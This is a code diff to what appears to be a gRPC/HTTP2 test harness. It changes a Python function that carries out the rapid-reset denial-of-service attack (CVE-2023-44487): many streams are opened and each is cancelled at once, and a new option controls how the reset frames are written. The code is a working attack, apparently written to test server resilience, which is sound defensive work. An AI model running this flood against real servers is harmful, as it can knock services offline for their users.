@@ -261,12 +261,16 @@ WATCH = "/events.v1.Watcher/Watch"
 PUBLISH = "/events.v1.Publisher/Publish"
 
 
-def rapid_reset(addr, count, path=WATCH, message=b"", conns=2, metadata=(), settle=1.0):
+def rapid_reset(addr, count, path=WATCH, message=b"", conns=2, metadata=(), settle=1.0,
+                split=False):
     """The rapid-reset attack (CVE-2023-44487): `count` streams over `conns`
     connections, each HEADERS + the request `message` then RST_STREAM(CANCEL)
-    at once (one write per stream), reading what the server sends every few streams (its SETTINGS,
+    at once, reading what the server sends every few streams (its SETTINGS,
     PINGs, WINDOW_UPDATEs) so the connections stay usable. Then reads for
     `settle` seconds, so the server has taken every frame in, and closes.
+    All three frames go in one write, so the server mostly sees the reset
+    before the request; split=True writes the reset separately, so the
+    request mostly arrives first and the stream is opened, then cancelled.
 
     Runs in the calling process: start it in another one (multiprocessing,
     spawn) to keep its CPU away from the client under test. Returns a dict:
@@ -279,8 +283,8 @@ def rapid_reset(addr, count, path=WATCH, message=b"", conns=2, metadata=(), sett
         c = cs[i % conns]
         if c.closed:
             continue
-        st = c.request(path, message, metadata=metadata, end_stream=False, flush=False)
-        c.reset(st)  # HEADERS, DATA and RST_STREAM in one write
+        st = c.request(path, message, metadata=metadata, end_stream=False, flush=split)
+        c.reset(st)
         del c.streams[st.id]  # nothing more to read on it
         sent += 1
         if i % 64 == 63:
